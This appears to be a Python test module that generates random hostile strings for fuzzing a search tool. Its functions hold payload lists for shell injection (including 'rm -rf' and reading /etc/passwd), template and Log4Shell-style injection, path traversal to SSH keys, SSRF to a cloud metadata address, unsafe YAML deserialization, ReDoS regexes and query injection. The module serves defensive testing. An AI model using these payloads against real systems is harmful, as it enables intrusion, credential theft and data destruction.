"""What something behind the search might run or open: templates, formats, patterns, shells, paths, addresses."""

import random

from tests.hostile_strings.words import word


def format_strings(rng: random.Random) -> str:
    form = rng.choice(
        (
            "%s%s%s%n",
            "%d",
            "%x" * 40,
            "%99999999999d",
            "%(x)s",
            "{}",
            "{0}",
            "{x}",
            "{0.__class__.__mro__}",
            "{:>99999999999}",
            "{!r}",
            "{",
            "}",
            "{{}",
            "${x}",
            "$x",
            "%c%c",
            "%-*s",
            "f'{1/0}'",
            "{0!z}",
        )
    )
    return f"{word(rng)} {form}{rng.choice(('', ' ' + word(rng), form))}"


def templates(rng: random.Random) -> str:
    number = rng.randrange(1000)
    form = rng.choice(
        (
            "{{{{{0}*7}}}}",
            "{{% for i in range(10**9) %}}{0}{{% endfor %}}",
            "${{{0}*7}}",
            "#{{{0}*7}}",
            "<%= {0}*7 %>",
            "<% import os %>${{os.system('id')}}{0}",
            "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}{0}",
            "{{{{config}}}} {0}",
            "{{{{request|attr('x')}}}}{0}",
            "${{jndi:ldap://x.example/{0}}}",
            "{{# {0}",
            "{{{{ {0} ",
            "[[${{{0}}}]]",
            "@({0}*7)",
            "{{php}}echo {0};{{/php}}",
        )
    )
    return form.format(number)


def patterns_that_explode(rng: random.Random) -> str:
    form = rng.choice(
        (
            "(a+)+$",
            "(a|a)*b",
            "(.*)*x",
            "([a-zA-Z]+)*!",
            "(?:a?){50}a{50}",
            "^(\\w+\\s?)*$",
            "(x+x+)+y",
            "a{99999}",
            "[a-z]{1,1000}{1,1000}",
            "(?=",
            "(?P<x>",
            "\\1",
            "[",
            "(?i:",
            "(*PRUNE)",
            "\\p{Han}+",
            ".*.*.*.*.*=.*",
            "(((((a*)*)*)*)*)*b",
        )
    )
    return f"{form}{rng.choice(('', '/', ' ' + word(rng), 'a' * rng.randint(1, 60) + '!'))}"


def shells(rng: random.Random) -> str:
    form = rng.choice(
        (
            "; id {0}",
            "| cat /etc/passwd {0}",
            "`id`{0}",
            "$(id){0}",
            "&& rm -rf {0}",
            "\n id {0}",
            "> /dev/null {0}",
            "${{IFS}}{0}",
            "!{0}",
            "~{0}",
            "{0} &",
            "%PATH%{0}",
            "() {{ :; }}; echo {0}",
            "'; id; '{0}",
        )
    )
    return word(rng) + form.format(word(rng))


def paths(rng: random.Random) -> str:
    start = rng.choice(
        (
            "/etc/passwd",
            "../" * rng.randint(1, 30) + "etc/passwd",
            "/dev/zero",
            "/dev/stdin",
            "/proc/self/environ",
            "C:\\Windows\\system.ini",
            "\\\\x.example\\share",
            "file:///etc/passwd",
            "..\\..\\",
            "....//",
            "~/.ssh/id_rsa",
            "/" + "a" * 5000,
            "con.txt",
            "wirewatch.toml",
            "*.db",
            ".",
        )
    )
    return start + rng.choice(("", "\x00.txt", "%00", "/", "?", "#", word(rng)))


def addresses(rng: random.Random) -> str:
    number = rng.randrange(256)
    form = rng.choice(
        (
            "http://127.0.0.1:{0}/",
            "http://169.254.169.254/latest/{0}",
            "https://x.example/?q={0}%20OR%201=1#frag",
            "http://[::1]:{0}/",
            "javascript:alert({0})",
            "data:text/html,{0}",
            "http://user:pass@x.example:{0}",
            "//x.example/{0}",
            "http://0x7f.{0}",
            "gopher://127.0.0.1:{0}/_",
            "mailto:x@x.example?subject={0}",
            "https://пример.рф/{0}",
            "http://x.example/" + "a/" * 3000 + "{0}",
            "x@x.example {0}",
            "http:{0}",
            "sqlite:///{0}.db",
            "postgresql://u:p@h/{0}",
        )
    )
    return form.format(number)


def python_source(rng: random.Random) -> str:
    form = rng.choice(
        (
            "__import__('os').system('id {0}')",
            "eval({0})",
            "().__class__.__bases__[0] {0}",
            "lambda: {0}",
            "None {0}",
            "b'{0}'",
            "!!python/object/apply:os.system ['{0}']",
            "&a [*a, *a] {0}",
            "{0}: !!binary x",
            "[toml]\nx = {0}",
            "<!ENTITY a '{0}'>",
        )
    )
    return form.format(rng.randrange(10**6))


def directory_and_header_filters(rng: random.Random) -> str:
    form = rng.choice(
        (
            "*)(uid=*))(|(uid={0}",
            "(&({0}=*))",
            "' or '1'='1' or name()='{0}",
            "//{0}[1=1]",
            'q="{0}";q=0',
            'W/"{0}"',
            "bytes=0-{0},0-",
            "*;q={0}",
            "a=b; Path=/; {0}",
            "$where: {0}",
            "_id:{0} AND *:*",
            "{0} TO *",
            "[{0} TO *]",
            "{{!join from={0}}}",
            "/{0}.*/",
            "{0}~2",
            "_exists_:{0}",
            "{0}^1e999",
            "boost:{0}",
        )
    )
    return form.format(word(rng))


DRAWS = (
    format_strings,
    templates,
    patterns_that_explode,
    shells,
    paths,
    addresses,
    python_source,
    directory_and_header_filters,
)
